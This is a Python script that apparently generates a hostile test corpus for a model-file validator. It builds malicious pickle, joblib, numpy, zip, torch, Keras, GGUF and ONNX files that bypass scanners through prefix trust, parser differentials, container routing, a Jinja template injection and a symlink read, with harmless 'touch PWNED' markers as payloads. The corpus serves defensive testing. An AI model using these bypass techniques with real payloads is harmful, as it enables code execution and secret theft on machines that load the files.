"""The hostile corpus: one file per bypass class of issue 13, each built from a published
advisory or scanner bypass (the `source` of each entry). Every file, loaded by its real
loader, creates the file PWNED in the working directory (or reads a secret it should not);
test/corpus/prove.py does that in a sandbox, and the test asserts validate-model refuses
each one.

    /usr/bin/python3 test/corpus/hostile.py <dir>   # writes the files and manifest.json
"""
import io
import json
import os
import struct
import sys
import zipfile

import numpy as np

out = sys.argv[1]
os.makedirs(out, exist_ok=True)
manifest = []


def add(name, data, loader, klass, source, proof="marker"):
    path = os.path.join(out, name)
    if isinstance(data, bytes):
        with open(path, "wb") as f:
            f.write(data)
    manifest.append({"file": name, "loader": loader, "class": klass, "source": source, "proof": proof})


# --- A tiny pickle assembler (opcodes of Lib/pickle.py) -------------------------------------
def uni(s):  # SHORT_BINUNICODE
    b = s.encode()
    return b"\x8c" + bytes([len(b)]) + b


def string0(s):  # protocol 0 STRING with a repr-like argument
    return b"S" + s.encode() + b"\n"


PROTO = lambda n: b"\x80" + bytes([n])  # noqa: E731
STOP, REDUCE, TUPLE1, TUPLE2, STACK_GLOBAL, MEMOIZE, EMPTY_TUPLE = b".", b"R", b"\x85", b"\x86", b"\x93", b"\x94", b")"
MARK, TUPLE, BUILD, NEWOBJ, EMPTY_DICT, SETITEMS, POP = b"(", b"t", b"b", b"\x81", b"}", b"u", b"0"
SHELL = "touch PWNED"
EXEC = "open('PWNED', 'w').close()"


def glob(module, name):  # protocol 0 GLOBAL
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def call1(callee, arg):
    return callee + arg + TUPLE1 + REDUCE


# 1. Prefix trust: a dotted protocol 4 name that starts at an allowed module and walks to exec.
#    Source: picklescan GHSA-jgw4-cr84-mqxg / issue 13 (`sklearn.base` + `np.testing...`).
add("prefix_walk.pkl",
    PROTO(4) + uni("sklearn.base") + uni("np.testing._private.utils.runstring") + STACK_GLOBAL
    + uni(EXEC) + EMPTY_DICT + TUPLE2 + REDUCE + STOP,
    "pickle", "prefix trust", "picklescan GHSA-jgw4-cr84-mqxg; issue 13 (sklearn.base + np.testing._private.utils.runstring)")

# 1b. An allowed library function that unpickles nested bytes: pandas.compat.pickle_compat.loads.
inner = PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP
add("nested_pickle_compat.pkl",
    PROTO(2) + glob("pandas.compat.pickle_compat", "loads") + b"C" + bytes([len(inner)]) + inner + TUPLE1 + REDUCE + STOP,
    "pickle", "prefix trust", "issue 13 (pandas.compat.pickle_compat.loads unpickles nested bytes); fickling's nested-pickle analysis")

# 1c. A method of an allowed class that writes a file: numpy.ndarray.tofile by dotted qualname.
add("method_writes.pkl",
    PROTO(4) + uni("numpy") + uni("ndarray.tofile") + STACK_GLOBAL
    + uni("numpy") + uni("zeros") + STACK_GLOBAL + b"K\x01" + TUPLE1 + REDUCE
    + uni("PWNED") + TUPLE2 + REDUCE + STOP,
    "pickle", "prefix trust", "issue 13 (methods of allowed classes that write files)")

# 1d. pkgutil.resolve_name reaches any callable by name (missing from the old denylist).
add("resolve_name.pkl",
    PROTO(2) + call1(glob("pkgutil", "resolve_name"), string0(repr("os:system"))) + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP,
    "pickle", "denylist gap", "issue 13 (pkgutil.resolve_name); picklescan resolves names the same way")

# 1e. joblib's NDArrayWrapper reads a sibling file by name, with allow_pickle=True.
os.makedirs(os.path.join(out, "joblib_sibling"), exist_ok=True)
wrapper_state = (EMPTY_DICT + MARK + string0(repr("filename")) + string0(repr("weights.bin"))
                 + string0(repr("subclass")) + glob("numpy", "ndarray")
                 + string0(repr("allow_mmap")) + b"\x89" + SETITEMS)
with open(os.path.join(out, "joblib_sibling", "model.joblib"), "wb") as f:
    f.write(PROTO(2) + glob("joblib.numpy_pickle_compat", "NDArrayWrapper") + EMPTY_TUPLE + NEWOBJ
            + wrapper_state + BUILD + STOP)
add("joblib_sibling", None, "joblib:model.joblib", "prefix trust",
    "issue 13 (joblib's NDArrayWrapper reads a sibling file by name); joblib/numpy_pickle_compat.py")

# 2a. Parser differential: INT text `1_0` is ten to CPython (memo key), one to a parseInt.
add("memo_underscore.pkl",
    string0(repr("collections")) + b"p1\n" + POP
    + string0(repr("os")) + b"p10\n" + POP
    + b"g1_0\n" + string0(repr("system")) + STACK_GLOBAL + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP,
    "pickle", "parser differential", "issue 13 (int() accepts 1_0: memo keys read differently)")

# 2b. STRING escapes include octal: 'o\163' is 'os'.
add("string_octal.pkl",
    b"S'o\\163'\n" + b"S'system'\n" + STACK_GLOBAL + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP,
    "pickle", "parser differential", "issue 13 (STRING escapes include octal); CPython PyBytes_DecodeEscape")

# 2c. Protocol 2 remaps Python 2 names (_compat_pickle): urllib.urlopen is urllib.request.urlopen.
add("compat_urlopen.pkl",
    PROTO(2) + call1(glob("urllib", "urlopen"), string0(repr("file:///proc/self/cwd/SECRET"))) + STOP,
    "pickle", "parser differential", "issue 13 (protocol 2 remaps Python 2 names, Lib/_compat_pickle.py)", proof="secret")

# 2d. A dict's last duplicate key wins: joblib's wrapper says uint8 first, object last.
payload = PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP
NEWFALSE, NEWTRUE, TUPLE3 = b"\x89", b"\x88", b"\x87"
dtype_u1 = glob("numpy", "dtype") + string0(repr("u1")) + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
dtype_o = glob("numpy", "dtype") + string0(repr("O")) + NEWFALSE + NEWTRUE + TUPLE3 + REDUCE
state = (EMPTY_DICT + MARK
         + string0(repr("subclass")) + glob("numpy", "ndarray")
         + string0(repr("shape")) + b"K" + bytes([len(payload)]) + TUPLE1
         + string0(repr("order")) + string0(repr("C"))
         + string0(repr("dtype")) + dtype_u1
         + string0(repr("allow_mmap")) + NEWFALSE
         + string0(repr("dtype")) + dtype_o
         + SETITEMS)
add("joblib_duplicate_key.joblib",
    PROTO(2) + glob("joblib.numpy_pickle", "NumpyArrayWrapper") + EMPTY_TUPLE + NEWOBJ + state + BUILD + payload + STOP,
    "joblib", "parser differential", "issue 13 (a dict's last duplicate key wins); joblib/numpy_pickle.py NumpyArrayWrapper.read")

# 2e. numpy's descr accepts 'object': an object array the header does not spell as '|O'.
def npy(descr, data):
    header = "{'descr': %s, 'fortran_order': False, 'shape': (1,), }" % descr
    header = header.ljust(((len(header) + 11) // 64 + 1) * 64 - 11) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + data


object_payload = PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP
with open(os.path.join(out, "joblib_sibling", "weights.bin"), "wb") as f:
    f.write(npy("'|O'", PROTO(2) + glob("os", "system") + string0(repr(SHELL)) + TUPLE1 + REDUCE + STOP))
add("descr_object.npy", npy("'object'", object_payload), "numpy", "parser differential",
    "issue 13 (numpy's descr accepts 'object'); numpy/lib/format.py descr_to_dtype")
add("descr_escaped.npy", npy("'\\x4f'", object_payload), "numpy", "parser differential",
    "issue 13 (escaped spellings of 'O'); ast.literal_eval decodes escapes")

# 3a. A zip with config.json is not necessarily Keras: a pickle beside it is still loaded.
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as z:
    z.writestr("config.json", json.dumps({"class_name": "Sequential", "config": {"layers": []}}))
    z.writestr("metadata.json", "{}")
    z.writestr("payload.pkl", payload)
add("keras_lookalike.zip", buffer.getvalue(), "zip-member:payload.pkl", "container routing",
    "issue 13 (a zip with config.json is not necessarily Keras)")

# 3b. torch's archive folder is named after the file: data.pt holds data/data.pkl.
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as z:
    z.writestr("data/data.pkl", payload)
    z.writestr("data/version", "3\n")
add("data.pt", buffer.getvalue(), "zip-member:data/data.pkl", "container routing",
    "issue 13 (torch zip archive folder named after the file: data.pt -> data/data.pkl); torch/serialization.py")

# 3c. .npz members need no .npy suffix: np.load(...)['arr'] reads an object array.
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as z:
    z.writestr("arr", npy("'|O'", object_payload))
add("suffixless.npz", buffer.getvalue(), "npz:arr", "container routing",
    "issue 13 (.npz members need no .npy suffix); numpy/lib/npyio.py NpzFile.__getitem__")

# 3e. .keras weights may be an .npz (Keras's NpzIOStore): a zip inside the zip, with an object array.
inner_zip = io.BytesIO()
with zipfile.ZipFile(inner_zip, "w") as z:
    z.writestr("w0", npy("'|O'", object_payload))
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as z:
    z.writestr("config.json", json.dumps({"module": "keras", "class_name": "Sequential", "config": {"layers": []}, "registered_name": None}))
    z.writestr("metadata.json", "{}")
    z.writestr("model.weights.npz", inner_zip.getvalue())
add("npz_weights.keras", buffer.getvalue(), "npz-in-zip:model.weights.npz:w0", "container routing",
    "issue 13 (.keras weights may be a .npz); keras/src/saving/saving_lib.py NpzIOStore")

# 3d. Python's zipfile returns the last of duplicate names.
buffer = io.BytesIO()
with zipfile.ZipFile(buffer, "w") as z:
    z.writestr("model.pkl", PROTO(2) + b"N" + STOP)
    with __import__("warnings").catch_warnings():
        __import__("warnings").simplefilter("ignore")
        z.writestr("model.pkl", payload)
add("duplicate_names.zip", buffer.getvalue(), "zip-member:model.pkl", "container routing",
    "issue 13 (zipfile returns the last of duplicate names); zip parser differentials")

# 4. Shallow format checks: a GGUF chat template (Jinja) that reaches os when rendered.
template = "{{ self.__init__.__globals__.__builtins__.__import__('os').system('touch PWNED') }}"
def gguf_string(text):
    data = text.encode()
    return struct.pack("<Q", len(data)) + data
gguf = (b"GGUF" + struct.pack("<IQQ", 3, 0, 1)
        + gguf_string("tokenizer.chat_template") + struct.pack("<I", 8) + gguf_string(template))
add("chat_template.gguf", gguf, "gguf-template", "shallow format checks",
    "CVE-2024-34359 (llama-cpp-python renders GGUF chat templates without a sandbox)")

# 5. Paths checked as strings: ONNX external data through a symlink reads outside the model.
import onnx  # noqa: E402
from onnx import TensorProto, helper  # noqa: E402

os.makedirs(os.path.join(out, "onnx_symlink"), exist_ok=True)
weights = TensorProto(name="W", data_type=TensorProto.FLOAT, dims=[4], data_location=TensorProto.EXTERNAL)
weights.external_data.add(key="location", value="weights.bin")
graph = helper.make_graph([helper.make_node("Add", ["x", "W"], ["y"])], "g",
                          [helper.make_tensor_value_info("x", TensorProto.FLOAT, [4])],
                          [helper.make_tensor_value_info("y", TensorProto.FLOAT, [4])], [weights])
with open(os.path.join(out, "onnx_symlink", "model.onnx"), "wb") as f:
    f.write(helper.make_model(graph).SerializeToString())
os.symlink("../SECRET", os.path.join(out, "onnx_symlink", "weights.bin"))
with open(os.path.join(out, "SECRET"), "w") as f:
    f.write("not the model's")
add("onnx_symlink", None, "onnx:model.onnx", "paths checked as strings",
    "issue 13 (ONNX external data through a symlink); onnx/external_data_helper.py load_external_data_for_tensor", proof="secret")

with open(os.path.join(out, "manifest.json"), "w") as f:
    json.dump(manifest, f, indent=1)
print(len(manifest))
